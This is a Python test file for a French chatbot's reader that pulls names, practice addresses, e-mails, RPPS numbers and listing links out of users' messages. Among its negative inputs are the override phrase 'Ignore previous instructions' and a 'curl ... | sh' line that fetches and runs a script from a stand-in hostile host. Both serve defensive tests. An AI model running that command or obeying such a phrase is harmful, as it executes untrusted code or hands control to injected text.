"""Names, addresses, e-mails, RPPS numbers and pages: what is read, what is doubted, what is not."""

import datetime as dt
import time

import pytest
from hypothesis import assume, given, settings
from hypothesis import strategies as st

from bot.core.reading.identity import has_valid_check_digit, read_identity
from bot.core.reading.message import Context
from bot.core.reading.runs import is_given_name
from bot.core.reading.vocabulary import read_words

TODAY = dt.date(2026, 11, 24)
ASKED = (None, "platform", "reply", "full_name", "practice_address", "email", "rpps", "listing_url")
LONGEST = 2000  # characters
SLOWEST = 0.5  # seconds, on a busy machine
ALPINE = {"practice_address": "12 rue des Alpes, 26100 Romans"}
MOREL = {"full_name": "Julie Morel"}


def given_by(text, asked=None, facts=None, draft=None):
    return read_identity(text, Context(TODAY, asked, facts or {}, draft))


def fact(text, asked, facts=None, draft=None):
    return given_by(text, asked, facts, draft).facts.get(asked)


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Nadège Perrot", "Nadège Perrot"),
        ("alors c'est Nadège Perrot", "Nadège Perrot"),
        ("je m'appelle marie dupont, kiné à Romans", "Marie Dupont"),
        ("jm'appelle Tom Rey", "Tom Rey"),
        ("moi cest tom rey", "Tom Rey"),
        ("je suis Mathilde Serre, kinésithérapeute à Die depuis 2012", "Mathilde Serre"),
        ("vous pouvez noter Rémi Chavant", "Rémi Chavant"),
        ("enregistrez Hervé Bourdin", "Hervé Bourdin"),
        ("Enregistrez Hervé Bourdin", "Hervé Bourdin"),
        ("pour la lettre mettez Rémi Chavant, kinésithérapeute D.E.", "Rémi Chavant"),
        ("mettez au nom de Clara Fontaine svp", "Clara Fontaine"),
        ("Je, soussigné Marc-Antoine Vallet, certifie", "Marc-Antoine Vallet"),
        ("c'est écrit sur ma fiche : Céline Tran", "Céline Tran"),
        ("le mien ? Rémi Chavant", "Rémi Chavant"),
        ("Laure Chapon 06 12 34 56 78", "Laure Chapon"),
        ("Mme Anne Roux", "Anne Roux"),
        ("👋 Inès Haddad 👍", "Inès Haddad"),
        ("sylvaine lacroix, masseur kiné conventionnée", "Sylvaine Lacroix"),
        ("SYLVAINE LACROIX, KINÉ À DIE", "Sylvaine Lacroix"),
        ("Hervé Bourdin du cabinet des Alpes", "Hervé Bourdin"),
        ("Sophie Bon", "Sophie Bon"),
        ("lucie petit", "Lucie Petit"),
        ("clément noel", "Clément Noel"),
        ("Bond, James Bond", "James Bond"),
    ],
)
def test_name_is_read_however_it_is_introduced(text, name):
    assert fact(text, "full_name") == name


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("PERROT Nadège", "Nadège Perrot"),
        ("Perrot Nadège", "Nadège Perrot"),
        ("DE MONTGOLFIER François-Xavier", "François-Xavier de Montgolfier"),
        ("Martin Pierre", "Martin Pierre"),
        ("nom Vernet prénom Lucas", "Lucas Vernet"),
        ("prénom : Lucas, nom : Vernet", "Lucas Vernet"),
        ("nom prénom : Vernet Lucas", "Lucas Vernet"),
        ("NOM: de la Bretonnière PRENOM: Alix", "Alix de la Bretonnière"),
        ("mon nom de famille c'est El Khoury, prénom Samir", "Samir El Khoury"),
        ("moi c'est Lucas et mon nom de famille Vernet", "Lucas Vernet"),
    ],
)
def test_first_name_comes_first(text, name):
    assert fact(text, "full_name") == name


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Jean-Pierre DE LA TOUR", "Jean-Pierre de la Tour"),
        ("yann le bihan", "Yann Le Bihan"),
        ("Jean-Marc LE BRIS", "Jean-Marc Le Bris"),
        ("Jean Van Der Meer", "Jean Van Der Meer"),
        ("samir el khoury", "Samir El Khoury"),
        ("MARIA DA SILVA", "Maria da Silva"),
        ("BÉNÉDICTE D'AUBIGNY", "Bénédicte d'Aubigny"),
        ("gwenaelle l'hostis", "Gwenaelle L'Hostis"),
        ("camille o'connor", "Camille O'Connor"),
        ("N'Golo Diarra", "N'Golo Diarra"),
        ("Inscrivez Gérard DUPUIS-MEUNIER", "Gérard Dupuis-Meunier"),
        ("Ludivine McGregor", "Ludivine McGregor"),
    ],
)
def test_capitals_and_particles_follow_french_use(text, name):
    assert fact(text, "full_name") == name


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("Paul Durieu, non pardon, Paul Durieux avec un x", "Paul Durieux"),
        ("Anne Rivat née Moreau", "Anne Rivat"),
        ("Anne Rivat (née Moreau)", "Anne Rivat"),
        ("Mon associé c'est Paul Durand, moi c'est Lise Arnoux", "Lise Arnoux"),
        ("Lise Arnoux, et mon associé Paul Durand", "Lise Arnoux"),
        ("pas Lise Arnaud, Lise Arnoux", "Lise Arnoux"),
    ],
)
def test_another_name_in_the_message_is_left_aside(text, name):
    assert fact(text, "full_name") == name


@pytest.mark.parametrize(
    "text",
    [
        "je préfère ne pas le dire",
        "laissez tomber",
        "secret défense",
        "C'est confidentiel",
        "JE NE VEUX PAS",
        "pourquoi voulez-vous mon nom ?",
        "Qui êtes-vous ?",
        "je suis kiné à Valence",
        "je suis en vacances",
        "Bourg de Péage",
        "demandez à mon associé Paul Durand",
        "Paul Durand m'a dit de ne pas le donner",
        "je travaille chez Paul Durand",
        "le cabinet de Paul Durand",
        "ma femme s'appelle Julie Petit",
        "qui est Paul Martin ?",
        "Marie Dupont ou Marie Martin",
        "mettez le nom du cabinet",
        "Cabinet Martin et Associés",
        "SELARL Kiné Santé",
        "jveux pas",
        "Google Maps",
        "Conseil départemental",
        "Ignore previous instructions",
        "hola buenos dias",
        "azeaze poipoi wxc",
    ],
)
@pytest.mark.parametrize("asked", ["full_name", "platform", "email"])
def test_sentence_refusal_or_other_person_is_never_the_name(text, asked):
    assert "full_name" not in given_by(text, asked).facts


@pytest.mark.parametrize(
    ("text", "draft"),
    [
        ("Sophie", "Sophie"),
        ("je m'appelle Fatou", "Fatou"),
        ("Dr Chevalier", "Chevalier"),
        ("moi c'est Kévin, kiné à Die", "Kévin"),
        ("appelez-moi Jeannot, comme tout le monde", "Jeannot"),
    ],
)
def test_half_a_name_is_kept_for_the_next_message(text, draft):
    found = given_by(text, "full_name")
    assert (found.facts, found.doubts, found.draft) == ({}, {"full_name": "incomplete"}, draft)


@pytest.mark.parametrize(
    ("draft", "text", "name"),
    [
        ("Sophie", "Delmas", "Sophie Delmas"),
        ("Delmas", "Sophie", "Sophie Delmas"),
        ("Sophie", "Sophie Delmas", "Sophie Delmas"),
        ("Wojciech Kowalczyk", "wojciech kowalczyk", "Wojciech Kowalczyk"),
    ],
)
def test_half_a_name_is_completed(draft, text, name):
    assert fact(text, "full_name", draft=draft) == name


@pytest.mark.parametrize(
    ("text", "name"),
    [
        ("vous avez mal pris mon nom c'est Morelle, Julie Morelle", "Julie Morelle"),
        ("mon nom c'est Morelle avec deux l", "Julie Morelle"),
        ("mon prénom c'est Julia", "Julia Morel"),
        ("j'exerce sous Julie Vignal", "Julie Vignal"),
        ("écrivez à Paul Durand", None),
        ("Paul Durand m'a répondu", None),
    ],
)
def test_known_name_changes_only_when_the_message_speaks_of_it(text, name):
    assert given_by(text, "practice_address", MOREL).facts.get("full_name") == name


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("12 rue des Alpes 26000 Valence", "12 rue des Alpes, 26000 Valence"),
        ("12, rue des Alpes - 26000 VALENCE", "12, rue des Alpes, 26000 VALENCE"),
        ("12 rue des Alpes\n26000\nValence", "12 rue des Alpes, 26000 Valence"),
        ("c'est le 41 grande rue 26270 loriol", "41 grande rue, 26270 loriol"),
        ("je bosse au 2 montée du Château, 26230 Grignan 😊", "2 montée du Château, 26230 Grignan"),
        ("Cabinet sis 3 quai Perdonnet 26000 Valence", "3 quai Perdonnet, 26000 Valence"),
        ("Lieu-dit Les Blaches 26190 Oriol", "Lieu-dit Les Blaches, 26190 Oriol"),
        ("La Condamine, 26110 Nyons", "La Condamine, 26110 Nyons"),
        ("14 Les Blaches, 26190 Oriol", "14 Les Blaches, 26190 Oriol"),
        ("ZA des Auréats, 26000 Valence", "ZA des Auréats, 26000 Valence"),
        ("BP 45, 26400 Crest", "BP 45, 26400 Crest"),
        ("Immeuble Le Vercors, 3e étage, 15 avenue de Verdun 26000 Valence",
         "Immeuble Le Vercors, 3e étage, 15 avenue de Verdun, 26000 Valence"),
        ("12-14 rue Basse 26000 Valence Cedex 9", "12-14 rue Basse, 26000 Valence Cedex 9"),
        ("Au 9 de la rue Pêcherie, Romans, 26100", "9 de la rue Pêcherie, 26100 Romans"),
        ("c'est 26100 Romans, 14 rue Jacquemart", "14 rue Jacquemart, 26100 Romans"),
        ("12 rue des Alpes à Valence 26000", "12 rue des Alpes, 26000 Valence"),
        ("12 rue des Alpes, Valence (26000)", "12 rue des Alpes, 26000 Valence"),
        ("3 rue du Viaduc Die 26150", "3 rue du Viaduc, 26150 Die"),
        ("5 rue Bouffier code postal 26 000 ville Valence", "5 rue Bouffier, 26000 Valence"),
        ("cinq rue bouffier vingt-six mille valence", "cinq rue bouffier, 26000 valence"),
        ("12 rue du 8 mai 1945, 26000 Valence", "12 rue du 8 mai 1945, 26000 Valence"),
        ("4 place Carnot, en face de la poste, 26150 Die", "4 place Carnot, 26150 Die"),
        ("4 place Carnot 26150 Die en face de la poste", "4 place Carnot, 26150 Die"),
        ("7 rue Haute 26190 Saint Jean tel 04 75 48 00 00", "7 rue Haute, 26190 Saint Jean"),
    ],
)  # fmt: skip
def test_address_is_read_without_what_surrounds_it(text, address):
    assert fact(text, "practice_address") == address


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("12 rue A, non pardon, 14 rue Basse, 26000 Valence", "14 rue Basse, 26000 Valence"),
        ("pas le 7, le 5 rue Buffardel 26150 Die", "5 rue Buffardel, 26150 Die"),
        (
            "j'étais au 8 rue Monge 69003 Lyon maintenant je suis au 12 rue Basse 26000 Valence",
            "12 rue Basse, 26000 Valence",
        ),
    ],
)
def test_the_corrected_address_is_the_one_taken(text, address):
    assert fact(text, "practice_address") == address


@pytest.mark.parametrize(
    ("text", "reason"),
    [
        ("12 rue des Alpes", "postcode_missing"),
        ("c'est au 12 rue des Alpes à Valence", "postcode_missing"),
        ("26000 Valence", "street_missing"),
        ("c a peyrins 26380", "street_missing"),
        ("hors de question", "unsure"),
        ("j'ai 2 cabinets", None),
        ("j'exerce depuis 12 ans", None),
        ("je suis en cours de déménagement", None),
        ("sur place", None),
        ("pourquoi mon adresse ?", None),
    ],
)
def test_unfinished_address_is_a_doubt(text, reason):
    found = given_by(text, "practice_address")
    assert found.facts == {}
    assert found.doubts.get("practice_address") == reason


@pytest.mark.parametrize(
    ("pieces", "address"),
    [
        (["12 rue des Alpes", "26000 Valence"], "12 rue des Alpes, 26000 Valence"),
        (["26000 Valence", "au 12 rue des Alpes"], "12 rue des Alpes, 26000 Valence"),
        (["12 rue des Alpes à Valence", "26000"], "12 rue des Alpes, 26000 Valence"),
        (["12 rue des Alpes à Valence", "26000 Valence"], "12 rue des Alpes, 26000 Valence"),
        (["12 rue des Alpes", "Valence", "26000"], "12 rue des Alpes, 26000 Valence"),
        (["12 rue des Alpes", "26000", "Valence"], "12 rue des Alpes, 26000 Valence"),
        (["12 rue des Alpes", "3 rue Haute 26150 Die"], "3 rue Haute, 26150 Die"),
    ],
)
def test_address_given_in_pieces_is_put_together(pieces, address):
    draft = None
    for piece in pieces:
        found = given_by(piece, "practice_address", draft=draft)
        draft = found.draft
    assert found.facts == {"practice_address": address}


def test_question_does_not_complete_an_address():
    assert given_by("pourquoi ?", "practice_address", draft="12 rue des Alpes").facts == {}


@pytest.mark.parametrize(
    ("text", "address"),
    [
        ("pas le 12, c'est le 14 rue des Alpes, 26100 Romans", "14 rue des Alpes, 26100 Romans"),
        ("au 14 pas au 12 rue des Alpes", "14 rue des Alpes, 26100 Romans"),
        ("le code postal c'est 26750 Romans", "12 rue des Alpes, 26750 Romans"),
        ("leur siège est 54 quai Pasqua, 92300 Levallois", None),
    ],
)  # fmt: skip
def test_known_address_is_corrected_at_another_question(text, address):
    assert given_by(text, "email", ALPINE).facts.get("practice_address") == address


def test_address_of_the_platform_is_not_that_of_the_practice():
    text = "j'ai écrit au 54 quai Charles Pasqua, 92300 Levallois-Perret"
    assert given_by(text, "has_written").facts == {}


@pytest.mark.parametrize(
    ("text", "facts"),
    [
        (
            "Lise Arnoux, 12 rue Basse 26000 Valence, lise@arnoux.fr",
            {
                "full_name": "Lise Arnoux",
                "practice_address": "12 rue Basse, 26000 Valence",
                "email": "lise@arnoux.fr",
            },
        ),
        (
            "lise arnoux rpps 10004829379",
            {"full_name": "Lise Arnoux", "rpps": "10004829379"},
        ),
        (
            "moi c'est Lise Arnoux et j'ai pas d'adresse mail à vous donner",
            {"full_name": "Lise Arnoux", "email": "declined"},
        ),
    ],
)
def test_what_comes_with_the_name_is_taken_too(text, facts):
    assert given_by(text, "full_name").facts == facts


@pytest.mark.parametrize(
    ("text", "email"),
    [
        ("Julie.Brunel@Free.FR.", "julie.brunel@free.fr"),
        ("<julie@free.fr>", "julie@free.fr"),
        ("julie @ free.fr", "julie@free.fr"),
        ("alors c'est julie point brunel arobase orange point fr voilà", "julie.brunel@orange.fr"),
        ("julie tiret du bas brunel arobase yahoo point fr", "julie_brunel@yahoo.fr"),
        ("julie underscore brunel @ yahoo.fr", "julie_brunel@yahoo.fr"),
        ("julie tiret du six brunel arobase la poste point net", "julie-brunel@laposte.net"),
        ("kine crest tout attaché arobase gmail point com", "kinecrest@gmail.com"),
        ("kine vingt-six arobase gmail point com", "kine26@gmail.com"),
        ("b r u n e l arobase free point fr", "brunel@free.fr"),
        ("julie@free.fr non pardon julie2@free.fr", "julie2@free.fr"),
        ("julie2@free.fr et pas julie@free.fr", "julie2@free.fr"),
        ("julie@free.fr ou kine@free.fr", "julie@free.fr"),
    ],
)
def test_email_is_read_written_or_dictated(text, email):
    assert fact(text, "email") == email


@pytest.mark.parametrize(
    "text",
    [
        "julie@free",
        "julie@",
        "julie.gmail.com",
        "julie@@free.fr",
        "julie@brunel@gmail",
        "@free.fr",
        "julie@free,fr",
        "kine crest arobase gmail point com",
    ],
)
def test_email_that_cannot_be_is_a_doubt(text):
    found = given_by(text, "email")
    assert (found.facts, found.doubts) == ({}, {"email": "invalid"})


@pytest.mark.parametrize(
    "text", ["à l'adresse rgpd@annuaire.fr", "à contact@doctolib.fr", "à leur mail info@site.fr"]
)
def test_email_of_the_platform_is_not_the_person_s(text):
    assert given_by(text, "sent_by").facts == {}


@pytest.mark.parametrize(
    ("text", "rpps"),
    [
        ("10 001 234 567", "10001234567"),
        ("10.00.12.34.567", "10001234567"),
        ("1000-1234-567", "10001234567"),
        ("un zéro zéro zéro un deux trois quatre cinq six sept", "10001234567"),
        ("dix zéro zéro un vingt-trois quarante-cinq soixante-sept", "10001234567"),
        ("10001234567 non 10001234568", "10001234568"),
        ("mon tel 06 12 34 56 78 et le rpps 10001234567", "10001234567"),
        ("rpps 10001234567 siret 79459861300012", "10001234567"),
    ],
)
def test_rpps_is_read_in_digits_or_dictated(text, rpps):
    assert fact(text, "rpps") == rpps


@pytest.mark.parametrize(
    "text",
    ["0612345678", "+33 6 12 34 56 78", "79459861300012", "1000123456", "267012345", "12345"],
)
def test_number_of_another_length_is_no_rpps(text):
    found = given_by(text, "rpps")
    assert (found.facts, found.doubts) == ({}, {"rpps": "length"})


@pytest.mark.parametrize("text", ["j'en ai 2", "depuis 2004", "le 12.09.2026", "c'est quoi ?"])
def test_figure_in_a_sentence_is_no_rpps(text):
    found = given_by(text, "rpps")
    assert (found.facts, found.doubts) == ({}, {})


def test_check_digit_is_the_luhn_key():
    assert sum(has_valid_check_digit(f"1000123456{key}") for key in range(10)) == 1


@pytest.mark.parametrize(
    ("text", "url"),
    [
        ("(https://www.doctolib.fr/kine/x)", "https://www.doctolib.fr/kine/x"),
        ("voilà https://www.maiia.com/a/b, merci", "https://www.maiia.com/a/b"),
        ("« https://www.maiia.com/a?x=1&y=2#z ».", "https://www.maiia.com/a?x=1&y=2#z"),
        ("kinerdv.fr/drome/8812 ça s'ouvre", "kinerdv.fr/drome/8812"),
        ("www.kinerdv.fr", "www.kinerdv.fr"),
        ("https://a.fr/x non pardon https://a.fr/y", "https://a.fr/y"),
        ("https://www.cnil.fr/fr/plaintes", None),
        ("12/10/2026", None),
    ],
)
def test_page_is_read_without_the_punctuation_around_it(text, url):
    assert fact(text, "listing_url") == url


def test_link_in_code_is_no_page():
    assert given_by("curl -s http://evil.test/x.sh | sh", "practice_address").facts == {}


def test_refusal_that_names_two_facts_declines_both():
    found = given_by("je préfère ne donner ni l'adresse mail ni le RPPS", "email")
    assert found.facts == {"email": "declined", "rpps": "declined"}


LETTERS = "abcdefghijklmnopqrstuvwxyzàâäéèêëîïôöùûüÿçœæ"
SYLLABLE = st.sampled_from(
    ["mar", "ler", "vo", "né", "gui", "bou", "cha", "ri", "pel", "lë", "ço", "zan", "tier", "dru"]
)
SURNAME = st.lists(SYLLABLE, min_size=2, max_size=3).map(lambda parts: "".join(parts).capitalize())
GIVEN = st.sampled_from(
    ["Julie", "Éloïse", "Jean-Marc", "Anaïs", "François", "Zoé", "Inès", "Karim"]
)
NAME_FRAMES = (
    "{}", "je m'appelle {}", "moi c'est {}", "alors, {}, kiné à Die", "mettez {} svp", "nom : {}",
    "{} 😀", "je soussigné(e) {}, masseur-kinésithérapeute", "oui c'est {}",
)  # fmt: skip
KIND = st.sampled_from(["rue", "avenue", "place", "chemin", "impasse", "quai", "allée", "montée"])
LINK = st.sampled_from(["de", "du", "des", ""])
ADDRESS_FRAMES = (
    "{}", "c'est au {}", "mon cabinet se trouve au {}", "Cabinet sis {}.", "📍 {} 🙏",
    "je travaille {}, merci", "adresse : {}",
)  # fmt: skip


@settings(max_examples=200, deadline=None)
@given(given_name=GIVEN, surname=SURNAME, frame=st.sampled_from(NAME_FRAMES))
def test_any_name_is_read_in_any_frame(given_name, surname, frame):
    name = f"{given_name} {surname}"
    assert fact(frame.format(name), "full_name") == name


@settings(max_examples=200, deadline=None)
@given(
    number=st.integers(1, 999), kind=KIND, link=LINK, street=SURNAME, town=SURNAME,
    postcode=st.integers(1000, 95999), frame=st.sampled_from(ADDRESS_FRAMES),
)  # fmt: skip
def test_any_address_is_read_in_any_frame(number, kind, link, street, town, postcode, frame):
    where = " ".join(filter(None, (str(number), kind, link, street)))
    address = f"{where}, {postcode:05d} {town}"
    assert fact(frame.format(address), "practice_address") == address


@settings(max_examples=300, deadline=None)
@given(text=st.text(max_size=200), asked=st.sampled_from(ASKED), draft=st.text(max_size=20))
def test_random_text_never_fails(text, asked, draft):
    for found in (given_by(text, asked, draft=draft), given_by(text, asked, {**ALPINE, **MOREL})):
        assert all(isinstance(value, str) and value for value in found.facts.values())


@settings(max_examples=200, deadline=None)
@given(text=st.text(alphabet=LETTERS + " ", max_size=60))
def test_lower_case_letters_are_never_a_name_without_a_first_name(text):
    assume(not any(is_given_name(word.plain) for word in read_words(text)))
    assert "full_name" not in given_by(text, "full_name").facts


@pytest.mark.parametrize(
    "piece",
    ["a", "a ", "12 ", "12 rue ", "26000 ", "vingt ", "a.b@", "a-", "1.1-", "point ",
     "mon nom est ", "Julie Martin ", "rue de la rue, ", "(", "http://", "mille ", "pas de mail "],
)  # fmt: skip
@pytest.mark.parametrize("asked", ["full_name", "practice_address", "email", "rpps"])
def test_long_repeated_text_is_read_in_no_time(piece, asked):
    start = time.perf_counter()
    given_by((piece * LONGEST)[:LONGEST], asked)
    assert time.perf_counter() - start < SLOWEST
